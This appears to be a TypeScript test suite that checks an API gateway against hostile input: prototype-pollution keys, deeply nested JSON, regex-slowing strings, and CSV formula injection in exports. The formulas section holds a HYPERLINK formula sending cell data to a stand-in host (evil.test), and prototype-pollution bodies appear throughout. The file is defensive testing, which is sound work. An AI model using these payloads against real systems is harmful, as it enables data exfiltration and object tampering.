// Values made to break what reads them: keys of prototypes, deep nesting, texts that make patterns slow, formulas.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Channel, channels } from '#contract/channels/index.ts'
import { unguarded } from '#contract/csv-text.ts'
import { makeCsvReader } from '#contract/import/csv-reader.ts'
import { realRows, sendzenLine } from '../test-fixtures.ts'
import { openTestGateway, type TestGateway, type TestKey } from '../test-gateway.ts'

const PROJECT = '77777777-7777-4777-8777-777777777777'
/** Of the rows that hold formulas. */
const FORMULAS = '66666666-6666-4666-8666-666666666666'

let gateway: TestGateway
let masked: TestKey
beforeAll(async () => {
  gateway = await openTestGateway()
  masked = await gateway.makeKey({ projectId: PROJECT, permissions: ['Project Member'], masked: true })
})
afterAll(() => gateway.close())

const routes = [
  ...channels.flatMap(({ resource }) =>
    ['get-list', 'count', 'values', 'facets', 'histogram', 'export-check', 'export'].map(
      (end) => `/api/${resource}/${end}`,
    ),
  ),
  ...['cost-summary', 'cost-change', 'cost-waste', 'cost-forecast', 'cost-anomalies'].map((end) => `/api/${end}`),
  ...['views', 'budgets', 'budgets/preview', 'keys', 'rate-cards', 'rate-cards/read-csv', 'lookup/list', 'session'].map(
    (end) => `/api/${end}`,
  ),
]
const text = (url: string, payload: string) =>
  gateway.inject({ method: 'POST', url, headers: { 'content-type': 'application/json' }, payload })

describe('keys of prototypes', () => {
  const planted = '"__proto__":{"planted":1,"masked":false},"constructor":{"prototype":{"planted":1}}'

  it('change nothing, wherever a body may hold them', async () => {
    for (const url of routes)
      for (const payload of [
        `{${planted},"query":{${planted}},"select":{${planted}},"sort":{${planted}}}`,
        `{"labels":{${planted}},"field":"__proto__","fields":["constructor"],"groupBy":["__proto__"],"columns":["toString"]}`,
      ]) {
        const answer = await text(url, payload)
        expect([url, payload, answer.statusCode]).toEqual([url, payload, expect.toSatisfy((status) => status < 500)])
      }
    expect(Object.keys(Object.prototype)).toEqual([])
    expect(({} as Record<string, unknown>).planted).toBeUndefined()
  })

  it('are no fields, relations, values or parameters', async () => {
    const [channel] = channels as [Channel]
    for (const key of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf']) {
      const refused = async (payload: object | string) => {
        const body = typeof payload === 'string' ? payload : JSON.stringify(payload)
        const answer = await text(`/api/${channel.resource}/get-list`, body)
        expect([body, answer.statusCode]).toEqual([body, 400])
      }
      await refused(`{"query":{"${key}":"x"}}`)
      await refused(`{"select":{"${key}":true}}`)
      await refused(`{"sort":{"${key}":1}}`)
      await refused(`{"query":{"user":{"${key}":"x"}}}`)
      await refused(`{"query":{"${channel.contact}":{"_type":"${key}","value":"x"}}}`)
      for (const url of [`/api/coverage?channel=${key}`, `/api/import?channel=${key}`, `/api/story?kind=${key}&id=x`])
        expect([
          url,
          (await gateway.inject({ method: url.includes('import') ? 'POST' : 'GET', url })).statusCode,
        ]).toEqual([url, 400])
      const search = await gateway.get(`/api/views?${key}[planted]=1&page=${key}`)
      expect(search.statusCode).toBe(400)
    }
  })
})

describe('deep nesting', () => {
  const deep = (open: string, close: string) => `${open.repeat(50_000)}1${close.repeat(50_000)}`

  it('is refused before it is read', async () => {
    for (const json of [deep('[', ']'), deep('{"a":', '}'), `{"query":${deep('{"a":[', ']}')}}`, '['.repeat(500_000)])
      for (const url of routes.slice(0, 8).concat('/api/views', '/api/session')) {
        const answer = await text(url, json)
        expect([url, answer.statusCode]).toEqual([url, 400])
      }
  })

  it('in a line of an import is that line’s fault', async () => {
    for (const { id } of channels) {
      const report = await gateway.importLines(id, [deep('[', ']'), `{"_id":${deep('{"a":', '}')}}`])
      expect(report).toMatchObject({ accepted: 0, rejected: 2 })
    }
  })
})

// A pattern that tries every way through such a text takes minutes, and the whole gateway with it: the test's own time
// is the bound.
describe('texts that make patterns slow', () => {
  const LENGTH = 100_000
  const pieces = ['a', '@', '1(', '1 ', 'w1.', '+', ' ', '\t', '"', '<', '{{', '%', '\\', 'wamid.', '\u200b', 'ßß', '=']
  const slow = pieces.map((piece) => piece.repeat(Math.floor(LENGTH / piece.length)))

  it('are read, shown, masked and exported all the same', async () => {
    const [channel] = channels as [Channel]
    const lines = slow.map((each, n) => ({
      ...realRows(channel.id)[n],
      projectId: PROJECT,
      project: { _id: PROJECT, name: 'Ours' },
      [channel.contact]: `+4915112340${String(n).padStart(3, '0')}`,
      [channel.title]: each,
      statusMessage: each,
    }))
    expect(await gateway.importLines(channel.id, lines)).toMatchObject({ accepted: lines.length, rejected: 0 })
    const select = { [channel.title]: true, statusMessage: true, [channel.contact]: true }
    const query = { projectId: PROJECT }
    for (const caller of [gateway, masked]) {
      const list = await caller.post(`/api/${channel.resource}/get-list?limit=100`, { select, query })
      expect(list.json().data).toHaveLength(slow.length)
      expect((await caller.post(`/api/${channel.resource}/export`, { query })).statusCode).toBe(200)
      expect((await caller.get('/api/lookup?number=%2B4915112340000')).statusCode).toBe(200)
    }
  })

  it('are looked for, or refused', async () => {
    for (const each of slow.map((whole) => whole.slice(0, 2000))) {
      const asked = encodeURIComponent(each)
      for (const answer of [
        await gateway.get(`/api/lookup?number=${asked}`),
        await gateway.get(`/api/lookup/suggest?text=${asked}`),
        await gateway.post('/api/lookup/list', { numbers: Array(200).fill(each) }),
        await gateway.post('/api/rate-cards/read-csv', { text: each.repeat(50) }),
        await gateway.post(`/api/${channels[0]?.resource}/count`, {
          query: { statusMessage: { _type: 'Search', value: each } },
        }),
        await gateway.post('/api/views', { channel: channels[0]?.id, name: each, search: each }),
      ])
        expect([each.slice(0, 5), answer.statusCode]).toEqual([
          each.slice(0, 5),
          expect.toSatisfy((status) => status < 500),
        ])
    }
  })
})

describe('formulas', () => {
  const FORMULA = '=HYPERLINK("https://evil.test?"&A1,"x")'
  const signs = [FORMULA, '+1+1', '-1-1', '@SUM(1)', '\t=1', '\r=1', '＝1']
  const texts = (channel: Channel) =>
    channel.fields.filter(
      ({ kind, priced }) => ['text', 'longText', 'status', 'phone', 'json'].includes(kind) && !priced,
    )

  function line(channel: Channel, sign: string, n: number): object | string {
    if (channel.direction === 'inbound') {
      const value = {
        metadata: { display_phone_number: sign, phone_number_id: sign },
        contacts: [{ wa_id: sign, user_id: `US.${sign}`, profile: { name: sign } }],
        messages: [{ from: sign, id: `${sign}${n}`, timestamp: '1767225600', type: sign, text: { body: sign } }],
      }
      const payload = { entry: [{ changes: [{ field: 'messages', value }] }] }
      const sent = sendzenLine(638_500_000_000_000_065n + BigInt(n), payload)
      const entry = JSON.parse(sent.replace(/,"created_at":\d+/, ''))
      const odd = { ...entry, project_id: FORMULAS, phone_number_id: sign, event_type: sign, flyout_url: sign }
      const more = { ...odd, flyout_delivery_status: sign, flyout_delivery_response: sign }
      return `${JSON.stringify(more).slice(0, -1)},"created_at":${638_500_000_000_000_065n + BigInt(n)}}`
    }
    const own = texts(channel).filter(({ derived }) => !derived)
    const relations = channel.fields.flatMap((field) =>
      field.kind === 'relation' ? [[field.key, { _id: PROJECT, [field.labelKey]: sign }]] : [],
    )
    return {
      ...realRows(channel.id)[n],
      ...Object.fromEntries([
        ...relations,
        ...own.map(({ key, kind }) => [key, kind === 'json' ? { message: sign } : sign]),
      ]),
      projectId: FORMULAS,
      project: { _id: FORMULAS, name: sign },
    }
  }

  it.each(channels.map((channel) => [channel.id, channel] as const))(
    'are text in every cell of %s',
    async (id, channel) => {
      const lines = signs.map((sign, n) => line(channel, sign, n))
      expect(await gateway.importLines(id, lines)).toMatchObject({ accepted: signs.length, rejected: 0 })
      const labels = Object.fromEntries(channel.fields.map(({ key }) => [key, `=${key}`]))
      const columns = channel.fields.map(({ key }) => key)
      const query = { projectId: FORMULAS }
      const answer = await gateway.post(`/api/${channel.resource}/export`, { columns, header: 'label', labels, query })
      const reader = makeCsvReader()
      const [head, ...records] = [...reader.read(answer.body), ...reader.end()].map(({ cells }) => cells)
      expect(records).toHaveLength(signs.length)
      for (const cell of [head ?? [], ...records].flat())
        expect(cell).toSatisfy(
          (text: string) => /^[+-]?\d+(\.\d+)?$/.test(text) || !/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(text),
        )
      // Nothing is lost: the import takes the apostrophe off again.
      const held = new Set(records.flat().map(unguarded))
      expect(signs.filter((sign) => ![...held].some((cell) => cell.includes(sign.trim())))).toEqual([])
    },
  )
})
